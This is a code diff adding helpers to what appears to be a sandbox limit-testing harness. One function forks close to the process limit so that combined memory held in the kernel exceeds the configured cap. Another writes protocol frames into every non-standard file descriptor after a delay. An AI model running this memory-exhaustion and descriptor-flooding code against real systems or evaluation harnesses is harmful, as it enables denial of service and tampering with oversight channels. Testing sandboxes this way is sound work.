@@ -11,7 +11,9 @@ import json
 import os
 import signal
 import struct
-from collections.abc import Callable, Iterator
+import threading
+import time
+from collections.abc import Callable, Iterable, Iterator
 from typing import Any
 
 with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "targets.json")) as _file:
@@ -108,7 +110,51 @@ def done(body: bytes, **changes: Any) -> bytes:
     return frame({"op": "done", "outcome": "ok", "message": "", "rewards": [], **changes}, body)
 
 
+def send_later(frames: Iterable[bytes]) -> None:
+    """From set-up: write these once the first instances are being solved."""
+    everything = list(frames)
+
+    def work() -> None:
+        time.sleep(0.5)
+        for data in everything:
+            send_everywhere(data)
+
+    threading.Thread(target=work, daemon=True).start()
+
+
 def send_everywhere(data: bytes) -> None:
     """Write to every descriptor but the standard ones."""
     for descriptor in range(3, 256):
         attempt(os.write, descriptor, data)
+
+
+SHARE = 2 * TARGETS["limits"]["total_memory_bytes"] // TARGETS["limits"]["processes"]
+"""Bytes that each process of a crowd keeps; together they exceed the limit a little."""
+
+
+def crowd(work: Callable[[], tuple[Any, int]]) -> int:
+    """Do the same in as many processes as there may be, and hold it for a while; the bytes that it comes to in all."""
+    source, sink = os.pipe()
+    for _ in range(TARGETS["limits"]["processes"] - 8):
+        child = attempt(os.fork)
+        if child is None:
+            break
+        if child == 0:
+            try:
+                wear_mark()
+                held = work()
+                os.write(sink, struct.pack("q", held[1]))
+                signal.pause()
+            finally:
+                os._exit(0)
+    mine = work()
+    time.sleep(1.0)  # whoever counts it had time to
+    os.set_blocking(source, False)
+    told = attempt(os.read, source, 1 << 16) or b""
+    return mine[1] + sum(int(each) for (each,) in struct.iter_unpack("q", told))
+
+
+def kept(work: Callable[[], tuple[Any, int]]) -> Any:
+    """The answer of an attack that keeps memory in the kernel: what it could keep, or how it got through."""
+    size = crowd(work)
+    return succeeded(f"kept {size >> 20} MB in the kernel") if size > TARGETS["limits"]["total_memory_bytes"] else size
